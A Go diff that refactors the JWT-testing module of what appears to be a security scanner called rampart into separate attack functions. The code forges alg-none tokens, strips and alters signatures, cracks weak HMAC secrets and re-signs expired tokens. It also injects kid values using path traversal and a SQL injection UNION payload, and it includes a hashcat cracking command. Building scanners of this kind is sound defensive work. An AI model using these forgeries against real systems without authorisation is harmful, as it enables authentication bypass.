@@ -223,105 +223,140 @@ func report(s *scan.Session, rule findings.Rule, t *target, id *scan.Identity, t
 	s.Report(f)
 }
 
+// attack runs every enabled forgery against one token, in a fixed order
+// (the requests of a scan are reproducible).
 func attack(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target) error {
 	alg, _ := tok.header["alg"].(string)
 	key := id.Name + ":" + alg
-	if s.Enabled(JWTNone.ID) {
-		for _, none := range []string{"none"} {
-			h := maps.Clone(tok.header)
-			h["alg"] = none
-			ex, ok, err := try(ctx, s, id, t, seg(h)+"."+tok.raw[1]+".")
-			if err != nil {
-				return err
-			}
-			if ok {
-				report(s, JWTNone, t, id, "Token with alg "+none+" accepted", "alg "+none+", no signature", ex, key)
-				break
-			}
+	steps := []struct {
+		on  bool
+		run func() error
+	}{
+		{s.Enabled(JWTNone.ID), func() error { return attackNone(ctx, s, id, tok, t, key) }},
+		{s.Enabled(JWTSignature.ID), func() error { return attackSignature(ctx, s, id, tok, t, key) }},
+		{strings.HasPrefix(alg, "HS"), func() error { return attackSecret(ctx, s, id, tok, t, alg, key) }},
+		{s.Enabled(JWTKid.ID), func() error { return attackKid(ctx, s, id, tok, t, key) }},
+		{s.Enabled(JWTEmbedded.ID), func() error { return embedded(ctx, s, id, tok, t, key) }},
+		{s.Enabled(JWTConfusion.ID) && (strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "ES") || strings.HasPrefix(alg, "PS")),
+			func() error { return confusion(ctx, s, id, tok, t, key) }},
+	}
+	for _, st := range steps {
+		if !st.on {
+			continue
+		}
+		if err := st.run(); err != nil {
+			return err
 		}
 	}
-	if s.Enabled(JWTSignature.ID) {
-		stripped := tok.signing + "."
-		ex, ok, err := try(ctx, s, id, t, stripped)
+	return nil
+}
+
+// attackNone sends the token with alg none and no signature.
+func attackNone(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
+	for _, none := range []string{"none"} {
+		h := maps.Clone(tok.header)
+		h["alg"] = none
+		ex, ok, err := try(ctx, s, id, t, seg(h)+"."+tok.raw[1]+".")
 		if err != nil {
 			return err
 		}
 		if ok {
-			report(s, JWTSignature, t, id, "Token without its signature accepted", "the signature removed", ex, key+":stripped")
-		} else if sig := tok.raw[2]; len(sig) > 4 {
-			// Change a character in the middle: it carries six full bits.
-			i := len(sig) / 2
-			alt := byte('A')
-			if sig[i] == 'A' {
-				alt = 'B'
-			}
-			altered := tok.signing + "." + sig[:i] + string(alt) + sig[i+1:]
-			ex, ok, err := try(ctx, s, id, t, altered)
-			if err != nil {
-				return err
-			}
-			if ok {
-				ex.Redacted = append(ex.Redacted, sig[:i], sig[i+1:])
-				report(s, JWTSignature, t, id, "Token with an altered signature accepted", "one character of the signature changed", ex, key+":altered")
-			}
+			report(s, JWTNone, t, id, "Token with alg "+none+" accepted", "alg "+none+", no signature", ex, key)
+			break
 		}
 	}
-	if strings.HasPrefix(alg, "HS") {
-		secret, found := crack(tok, alg)
-		if found && s.Enabled(JWTWeakSecret.ID) {
-			f := scan.Finding(JWTWeakSecret, t.op, findings.Certain, "JWT secret guessed",
-				fmt.Sprintf("%s's %s token verifies with a secret from rampart's built-in list of %d weak secrets (the secret is not shown here); anyone can mint tokens for any subject.", id.Name, alg, len(Wordlist)))
-			f.Key = key
-			f.Evidence = []findings.Exchange{scan.Evidence(id.Name+"'s token is accepted", t.authed)}
-			f.Curl = "echo \"$TOKEN\" | hashcat -m 16500 - wordlist.txt   # or jwt_tool; rampart found it offline, with no request"
-			s.Report(f)
-		}
-		if found && s.Enabled(JWTExpiry.ID) {
-			now := time.Now().Unix()
-			for _, v := range []struct{ claim, how string }{{"exp", "exp an hour in the past"}, {"nbf", "nbf an hour in the future"}} {
-				c := maps.Clone(tok.claims)
-				if v.claim == "exp" {
-					c["exp"] = now - 3600
-				} else {
-					c["nbf"] = now + 3600
-					c["exp"] = now + 7200
-				}
-				forged := forge(tok.header, c, func(in string) string { return hmacSign(alg, []byte(secret), in) })
-				ex, ok, err := try(ctx, s, id, t, forged)
-				if err != nil {
-					return err
-				}
-				if ok {
-					report(s, JWTExpiry, t, id, "Token with "+v.how+" accepted", v.how+", signed with the guessed secret", ex, key+":"+v.claim)
-				}
-			}
-		}
+	return nil
+}
+
+// attackSignature sends the token without its signature and, when that
+// is refused, with one character of the signature changed.
+func attackSignature(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
+	stripped := tok.signing + "."
+	ex, ok, err := try(ctx, s, id, t, stripped)
+	if err != nil {
+		return err
 	}
-	if s.Enabled(JWTKid.ID) {
-		for _, v := range []struct{ kid, secret, how string }{
-			{"../../../../../../../../dev/null", "", "kid ../../dev/null, HS256 with an empty key"},
-			{"x' UNION SELECT 'rampart-kid' -- ", "rampart-kid", "kid with SQL injection, HS256 with the injected key"},
-		} {
-			h := map[string]any{"alg": "HS256", "typ": "JWT", "kid": v.kid}
-			forged := forge(h, tok.claims, func(in string) string { return hmacSign("HS256", []byte(v.secret), in) })
-			ex, ok, err := try(ctx, s, id, t, forged)
-			if err != nil {
-				return err
-			}
-			if ok {
-				report(s, JWTKid, t, id, "Injected kid accepted", v.how, ex, key)
-				break
-			}
-		}
+	if ok {
+		report(s, JWTSignature, t, id, "Token without its signature accepted", "the signature removed", ex, key+":stripped")
+		return nil
 	}
-	if s.Enabled(JWTEmbedded.ID) {
-		if err := embedded(ctx, s, id, tok, t, key); err != nil {
+	sig := tok.raw[2]
+	if len(sig) <= 4 {
+		return nil
+	}
+	// Change a character in the middle: it carries six full bits.
+	i := len(sig) / 2
+	alt := byte('A')
+	if sig[i] == 'A' {
+		alt = 'B'
+	}
+	altered := tok.signing + "." + sig[:i] + string(alt) + sig[i+1:]
+	ex, ok, err = try(ctx, s, id, t, altered)
+	if err != nil {
+		return err
+	}
+	if ok {
+		ex.Redacted = append(ex.Redacted, sig[:i], sig[i+1:])
+		report(s, JWTSignature, t, id, "Token with an altered signature accepted", "one character of the signature changed", ex, key+":altered")
+	}
+	return nil
+}
+
+// attackSecret guesses an HMAC token's secret offline and, when it is
+// found, reports it and sends tokens it signs with bad exp and nbf.
+func attackSecret(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, alg, key string) error {
+	secret, found := crack(tok, alg)
+	if !found {
+		return nil
+	}
+	if s.Enabled(JWTWeakSecret.ID) {
+		f := scan.Finding(JWTWeakSecret, t.op, findings.Certain, "JWT secret guessed",
+			fmt.Sprintf("%s's %s token verifies with a secret from rampart's built-in list of %d weak secrets (the secret is not shown here); anyone can mint tokens for any subject.", id.Name, alg, len(Wordlist)))
+		f.Key = key
+		f.Evidence = []findings.Exchange{scan.Evidence(id.Name+"'s token is accepted", t.authed)}
+		f.Curl = "echo \"$TOKEN\" | hashcat -m 16500 - wordlist.txt   # or jwt_tool; rampart found it offline, with no request"
+		s.Report(f)
+	}
+	if !s.Enabled(JWTExpiry.ID) {
+		return nil
+	}
+	now := time.Now().Unix()
+	for _, v := range []struct{ claim, how string }{{"exp", "exp an hour in the past"}, {"nbf", "nbf an hour in the future"}} {
+		c := maps.Clone(tok.claims)
+		if v.claim == "exp" {
+			c["exp"] = now - 3600
+		} else {
+			c["nbf"] = now + 3600
+			c["exp"] = now + 7200
+		}
+		forged := forge(tok.header, c, func(in string) string { return hmacSign(alg, []byte(secret), in) })
+		ex, ok, err := try(ctx, s, id, t, forged)
+		if err != nil {
 			return err
 		}
+		if ok {
+			report(s, JWTExpiry, t, id, "Token with "+v.how+" accepted", v.how+", signed with the guessed secret", ex, key+":"+v.claim)
+		}
 	}
-	if s.Enabled(JWTConfusion.ID) && (strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "ES") || strings.HasPrefix(alg, "PS")) {
-		if err := confusion(ctx, s, id, tok, t, key); err != nil {
+	return nil
+}
+
+// attackKid sends HS256 tokens whose kid points the key lookup at a known
+// key: an empty file by path traversal, a chosen string by SQL injection.
+func attackKid(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
+	for _, v := range []struct{ kid, secret, how string }{
+		{"../../../../../../../../dev/null", "", "kid ../../dev/null, HS256 with an empty key"},
+		{"x' UNION SELECT 'rampart-kid' -- ", "rampart-kid", "kid with SQL injection, HS256 with the injected key"},
+	} {
+		h := map[string]any{"alg": "HS256", "typ": "JWT", "kid": v.kid}
+		forged := forge(h, tok.claims, func(in string) string { return hmacSign("HS256", []byte(v.secret), in) })
+		ex, ok, err := try(ctx, s, id, t, forged)
+		if err != nil {
 			return err
+		}
+		if ok {
+			report(s, JWTKid, t, id, "Injected kid accepted", v.how, ex, key)
+			break
 		}
 	}
 	return nil
